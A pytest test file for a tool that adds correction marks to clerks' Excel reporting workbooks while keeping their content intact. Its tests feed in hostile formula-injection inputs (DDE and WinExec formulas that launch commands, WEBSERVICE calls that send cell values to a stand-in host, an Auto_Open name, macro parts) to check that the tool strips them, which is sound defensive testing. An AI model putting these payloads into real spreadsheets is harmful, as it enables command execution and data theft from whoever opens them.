"""What of a clerk's workbook survives in its marked copy, compared cell by cell, and what must not."""

import io
import re
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from etl.books.blank import unit_blank
from etl.books.fix_list import FixList, Item
from etl.books.marked import CannotMarkError, marked_copy
from etl.books.marked_formulas import is_harmless, own
from etl.books.marked_sheet import INKS, TINTS
from etl.definitions import Campaign, Definitions, Form
from etl.model import Severity
from etl.sheets.formats.container import unpacked
from etl.sheets.formats.hidden_identity import read_hidden_identity
from tests.rooms.books.conftest import ROOT

AT = datetime.fromisoformat("2022-01-20T09:00:00+08:00")


def item(
    cell: str | None = "C5", sheet: str | None = "统计表", severity: Severity = Severity.ERROR, **more: Any
) -> Item:
    words = {
        "where": f"{sheet} {cell}",
        "problem": "填错了。",
        "typed": "待定",
        "should": "数字",
        "do": "请改正。",
    }
    return Item(severity, sheet, cell, **{"also": (), "mark": "returns:x::0", **words, **more})


def fixes(*items: Item) -> FixList:
    return FixList(
        "巴川街道", "请修改清单", "有 1 处要改。", ((("单位", "巴川街道"),),), ("改完放回收件箱。",), items
    )


def marked(original: bytes, *items: Item) -> bytes:
    return marked_copy(original, fixes(*(items or (item(),))), AT, "区双拥办")


def book_of(content: bytes, **how: Any) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content), **how)


def saved(book: openpyxl.Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def written(fill: Callable[[Any, Any], None], **options: Any) -> bytes:
    """A workbook by xlsxwriter, which keeps the results of formulas; its first sheet is 统计表."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, **options})
    fill(book, book.add_worksheet("统计表"))
    book.close()
    return out.getvalue()


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as container:
        return {name: container.read(name) for name in container.namelist()}


@pytest.fixture(scope="module")
def issued(definitions: Definitions, form: Form, campaign: Campaign) -> bytes:
    return unit_blank(form, campaign, definitions.roster.by_code["T01"])


LOOKS = ("number_format", "font", "fill", "border", "alignment", "protection", "quotePrefix")


def looks(cell: Any) -> dict[str, str]:
    return {look: repr(getattr(cell, look)) for look in LOOKS}


def told(sheet: Any) -> dict[str, Any]:
    """Everything of a sheet that a clerk may have set, apart from its cells."""
    return {
        "merged": sorted(map(str, sheet.merged_cells.ranges)),
        "validations": [
            (str(v.sqref), v.type, v.formula1, v.prompt, v.error)
            for v in sheet.data_validations.dataValidation
        ],
        "conditional": sorted(str(place.sqref) for place in sheet.conditional_formatting),
        "widths": {name: (d.width, d.hidden) for name, d in sheet.column_dimensions.items()},
        "heights": {at: (d.height, d.hidden) for at, d in sheet.row_dimensions.items()},
        "page": (sheet.page_setup.orientation, sheet.page_setup.paperSize, sheet.page_setup.fitToHeight),
        "margins": (sheet.page_margins.left, sheet.page_margins.top),
        "print": (sheet.print_area, sheet.print_title_rows),
        "state": sheet.sheet_state,
        "protected": sheet.protection.sheet,
        "freeze": sheet.freeze_panes,
        "names": {name: meant.attr_text for name, meant in sheet.defined_names.items()},
    }


def assert_alike(before: bytes, after: bytes, but: tuple[str, ...]) -> None:
    """Cell by cell, values, formulas, their results and looks; `but` are the cells that were marked."""
    was, now = book_of(before), book_of(after)
    was_worth, now_worth = book_of(before, data_only=True), book_of(after, data_only=True)
    assert now.sheetnames == ["请修改清单", *was.sheetnames]
    assert {n: d.attr_text for n, d in now.defined_names.items()} == {
        n: d.attr_text for n, d in was.defined_names.items()
    }
    for name in was.sheetnames:
        assert told(now[name]) == told(was[name])
        for row in was[name].iter_rows():
            for cell in row:
                other = now[name][cell.coordinate]
                assert (other.value, other.data_type) == (cell.value, cell.data_type), cell.coordinate
                worth = [book[name][cell.coordinate].value for book in (was_worth, now_worth)]
                assert worth[0] == worth[1], cell.coordinate
                if cell.coordinate not in but:
                    assert looks(other) == looks(cell), cell.coordinate


def _parts(book: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(book)) as container:
        return unpacked(container, book, len(book) * 100) or {}


def test_an_issued_form_survives_whole_with_its_hidden_identity(issued: bytes) -> None:
    after = marked(issued, item("C5"), item("D9", severity=Severity.QUERY))
    assert_alike(issued, after, but=("C5", "D9"))
    said = [read_hidden_identity(_parts(book)) for book in (issued, after)]
    assert said[0] == said[1] is not None


def of_a_clerk() -> bytes:
    """A workbook with most that a clerk sets: looks, rules, names, a hidden sheet, formulas with results."""

    def fill(book: Any, sheet: Any) -> None:
        money = book.add_format({"num_format": "#,##0.00", "bold": True, "bg_color": "#DDEEFF", "border": 2})
        sheet.set_column(1, 3, 17.5, money)
        sheet.set_column(5, 5, 9, None, {"hidden": True})
        sheet.set_row(3, 41)
        sheet.merge_range("A1:D1", "统计表", book.add_format({"align": "center", "font_size": 20}))
        sheet.write("B4", 3.5, money)
        sheet.write("B5", 1.25, money)
        sheet.write_formula("B6", "=SUM(B4:B5)", money, 4.75)
        sheet.write_formula("B7", '=IF(B6>4,"多","少")', None, "多")
        sheet.write_formula("B8", "=B6>4", None, True)
        sheet.write_formula("B9", "=B6/C9", None, "#DIV/0!")
        sheet.write_formula("B10", "=底表!A1+期数", None, 8)
        sheet.write_datetime("C4", date(2022, 1, 18), book.add_format({"num_format": "yyyy-mm-dd"}))
        sheet.write_rich_string("C5", "王", book.add_format({"bold": True}), "镇长")
        sheet.write_string("C6", "=1+1", book.add_format({"quote_prefix": True}))
        sheet.data_validation(
            "B4:B5", {"validate": "decimal", "criteria": ">=", "value": 0, "input_title": "金额"}
        )
        sheet.data_validation("C7", {"validate": "list", "source": "=底表!$A$1:$A$3"})
        sheet.conditional_format("B4:B6", {"type": "cell", "criteria": ">", "value": 4, "format": money})
        sheet.set_landscape()
        sheet.set_paper(9)
        sheet.repeat_rows(0, 2)
        sheet.print_area("A1:F20")
        sheet.freeze_panes(3, 1)
        sheet.write_comment("B4", "财务科核过", {"author": "李会计"})
        hidden = book.add_worksheet("底表")
        hidden.write("A1", 5)
        hidden.write("A2", 3)
        hidden.hide()
        book.define_name("期数", "=底表!$A$2")

    return written(fill)


def test_a_clerks_own_workbook_survives_cell_by_cell() -> None:
    before = of_a_clerk()
    after = marked(before, item("B5"))
    assert_alike(before, after, but=("B5",))
    assert (
        book_of(after, rich_text=True)["统计表"]["C5"].value
        == book_of(before, rich_text=True)["统计表"]["C5"].value
    )


def test_a_faulty_cell_is_coloured_and_says_why_and_a_comment_that_was_there_stays() -> None:
    after = book_of(marked(of_a_clerk(), item("B4", also=("B5",)), item("B4", severity=Severity.QUERY)))
    cell = after["统计表"]["B4"]
    assert cell.fill.fgColor.rgb == f"00{TINTS[Severity.ERROR]}"
    assert cell.comment.text.startswith("错误：填错了。请改正。\n核实：填错了。请改正。")
    assert cell.comment.text.endswith("财务科核过")
    assert "与 B4 是同一个原因" in after["统计表"]["B5"].comment.text
    assert cell.number_format == "#,##0.00"


def test_a_locked_sum_that_is_wrong_can_be_typed_over(issued: bytes) -> None:
    assert book_of(issued)["统计表"]["C9"].protection.locked
    assert not book_of(marked(issued, item("C9")))["统计表"]["C9"].protection.locked


REACHING_OUT = [
    "='[年报.xlsx]Sheet1'!A1",
    "=[1]Sheet1!A1",
    '=WEBSERVICE("http://x.invalid/"&B1)',
    '=HYPERLINK("http://x.invalid","点这里")',
    '=INDIRECT("B"&1)',
    '=RTD("prog.id",,"x")',
    '=CALL("Kernel32","WinExec","JCJ","calc",0)',
    "=cmd|'/c calc'!A0",
    '=DDE("cmd","/c calc","1")',
    '=SUM(B1,_xlfn.FILTERXML("<a/>","/a"))',
    "=EXEC(B1)",
    "=没有的名称+B1",
    "=MyMacro(B1)",
    "=TODAY()",
    "='C:\\[b.xlsx]S'!A1+B1",
]


@pytest.mark.parametrize("formula", REACHING_OUT)
def test_a_formula_that_reaches_out_becomes_its_cached_value(formula: str) -> None:
    def fill(book: Any, sheet: Any) -> None:
        sheet.write("B1", 1)
        sheet.write_formula("A1", formula, None, "=缓存")
        sheet.write_array_formula("A2:A2", formula, None, 7)

    sheet = book_of(marked(written(fill)))["统计表"]
    assert (sheet["A1"].value, sheet["A1"].data_type, sheet["A1"].quotePrefix) == ("=缓存", "s", True)
    assert (sheet["A2"].value, sheet["A2"].data_type) == (7, "n")


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(B1:B3)",
        "=统计表!B1+'第 1 页'!$B$2",
        '=IF(COUNT(B1:B3)=0,"",ROUND(SUM(B1:B3),6))',
        "=SUM(A1:INDEX(B:B,3))",
        "=B1%-期数",
        "=SUM('统计表:第 1 页'!B2)",
        "=_xlfn.IFS(B1>1,B2)",
        "=#REF!+B1",
    ],
)
def test_a_formula_over_own_cells_stays(formula: str) -> None:
    assert is_harmless(formula, own(["统计表", "第 1 页"], ["期数"]))


def test_a_sum_of_numbers_becomes_what_it_came_to_unless_it_was_never_worked_out() -> None:
    book = openpyxl.Workbook()
    book.active.title, book.active["A1"] = "统计表", "=3+5"
    assert book_of(marked(saved(book)))["统计表"]["A1"].value == "=3+5"
    once = written(lambda _, sheet: sheet.write_formula("A1", "=3+5", None, 8))
    assert book_of(marked(once))["统计表"]["A1"].value == 8


def test_nothing_that_reaches_out_is_left_in_any_part() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title, sheet["A1"] = "统计表", "网页"
    sheet["A1"].hyperlink = "http://x.invalid/"
    sheet.add_data_validation(DataValidation("list", formula1='INDIRECT("http://x.invalid")', sqref="B1"))
    rule = FormulaRule(['WEBSERVICE("http://x.invalid")=1'], font=Font(bold=True))
    sheet.conditional_formatting.add("C1", rule)
    book.defined_names["外面"] = DefinedName("外面", attr_text="[1]x.invalid!$A$1")
    book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text="统计表!$A$1", xlm=True)
    after = parts(marked(saved(book)))
    assert not [name for name, part in after.items() if b"x.invalid" in part or b"Auto_Open" in part]
    assert book_of(marked(saved(book)))["统计表"]["A1"].value == "网页"


def with_parts(content: bytes, replaced: dict[str, tuple[str, str]], **more: bytes) -> bytes:
    """The container with text replaced in parts, and parts added (name with / as __)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as container:
        for name, part in parts(content).items():
            old, new = replaced.get(name, ("", ""))
            container.writestr(name, part.replace(old.encode(), new.encode()) if old else part)
        for name, part in more.items():
            container.writestr(name.replace("__", "/"), part)
    return out.getvalue()


def with_macros() -> bytes:
    types = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    macro = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    relations = f'<Relationship Id="rV" Type="{kind}" Target="vbaProject.bin"/></Relationships>'
    replaced = {
        "[Content_Types].xml": (types, macro),
        "xl/_rels/workbook.xml.rels": ("</Relationships>", relations),
    }
    return with_parts(
        of_a_clerk(), replaced, **{"xl__vbaProject.bin": b"macro", "xl__activeX__activeX1.bin": b"x"}
    )


def test_of_a_macro_workbook_all_survives_but_the_macros() -> None:
    before = with_macros()
    after = parts(marked(before))
    assert_alike(before, marked(before), but=("C5",))
    assert not [
        name for name in after if re.search("vba|activeX|ctrlProps|externalLink|embeddings|connections", name)
    ]
    assert b"macroEnabled" not in after["[Content_Types].xml"]


def test_a_picture_a_chart_and_a_table_go_their_cells_stay() -> None:
    def fill(book: Any, sheet: Any) -> None:
        sheet.write_column("A1", ["数", 1, 2])
        sheet.add_table("A1:A3", {"columns": [{"header": "数"}]})
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "=统计表!$A$2:$A$3"})
        sheet.insert_chart("C1", chart)
        sheet.insert_textbox("C20", "说明")

    after = marked(written(fill))
    assert [cell.value for cell in book_of(after)["统计表"]["A"]][:3] == ["数", 1, 2]
    assert not [name for name in parts(after) if re.search("charts|media|tables", name)]


def test_equal_values_give_equal_bytes(issued: bytes) -> None:
    assert marked(issued) == marked(issued)
    with zipfile.ZipFile(io.BytesIO(marked(issued))) as container:
        assert {part.date_time[:3] for part in container.infolist()} == {(1980, 1, 1)}
    assert b"2022-01-20T01:00:00Z" in parts(marked(issued))["docProps/core.xml"]


def test_a_copy_that_comes_back_loses_the_earlier_marks_and_has_one_list() -> None:
    first = marked(of_a_clerk(), item("B4"), item("C7"))
    again = book_of(marked(first, item("C7")))
    assert again.sheetnames == ["请修改清单", "统计表", "底表"]
    sheet = again["统计表"]
    assert sheet["B4"].fill.fill_type is None
    assert sheet["B4"].comment.text == "财务科核过"
    assert sheet["C7"].comment.text.count("错误：") == 1


def test_the_list_opens_first_and_alone_and_prints_on_a4_with_its_header_repeated(issued: bytes) -> None:
    book = book_of(marked(issued))
    sheet = book["请修改清单"]
    assert book.active is sheet
    assert [one.sheet_view.tabSelected for one in book.worksheets].count(True) == 1
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    header = [cell.value for cell in sheet[sheet.print_title_rows.split(":")[0].strip("$")]][:7]
    assert header == ["单位", "表·单元格", "问题", "填写内容", "应为/差额", "怎么改", "填写说明"]
    assert sheet.column_dimensions["H"].hidden


def test_words_that_look_like_a_formula_are_words_in_the_list(issued: bytes) -> None:
    book = book_of(marked(issued, item(typed="=1+1", problem='=HYPERLINK("http://x")', do="+1", should="@x")))
    cells = [cell for row in book["请修改清单"].iter_rows() for cell in row if cell.value]
    assert {cell.data_type for cell in cells} == {"s"}
    assert "=1+1" in [cell.value for cell in cells]


def test_warnings_stand_below_and_ask_for_nothing(issued: bytes) -> None:
    book = book_of(marked(issued, item("C5"), item("C6", severity=Severity.WARNING)))
    sheet = book["请修改清单"]
    texts = [row[0].value for row in sheet.iter_rows() if row[0].value]
    assert texts[-2].startswith("以下只是提示")
    tint = {
        row[2].value[:4]: row[6].fill.fill_type
        for row in sheet.iter_rows()
        if str(row[2].value).startswith("【")
    }
    assert tint == {"【错误】": "solid", "【提示】": None}


def test_the_colours_are_those_of_the_receipt() -> None:
    page = (ROOT / "etl/books/templates/receipt.html").read_text("utf-8")
    for severity in Severity:
        assert f".form td.{severity.value} {{ background: #{TINTS[severity].lower()} }}" in page
        assert f".kind.{severity.value} {{ color: #{INKS[severity].lower()} }}" in page


def test_a_workbook_too_large_for_openpyxl_is_refused_before_it_is_opened() -> None:
    huge = with_parts(of_a_clerk(), {}, **{"xl__worksheets__sheet9.xml": b" " * (5 * 1024 * 1024)})
    with pytest.raises(CannotMarkError):
        marked(huge)


def test_a_sheet_of_macros_is_refused() -> None:
    with pytest.raises(CannotMarkError):
        marked(with_parts(of_a_clerk(), {}, **{"xl__macrosheets__sheet1.xml": b"<x/>"}))


def test_a_sheet_of_the_clerks_own_with_the_lists_name_is_refused() -> None:
    book = book_of(of_a_clerk())
    book.create_sheet("请修改清单")
    with pytest.raises(ValueError, match="请修改清单"):
        marked(saved(book))


def test_a_fault_in_a_merged_range_is_marked_where_it_shows() -> None:
    sheet = book_of(marked(of_a_clerk(), item("C1")))["统计表"]
    assert sheet["A1"].comment.text.startswith("错误")
    assert sheet["A1"].fill == PatternFill("solid", fgColor=TINTS[Severity.ERROR])
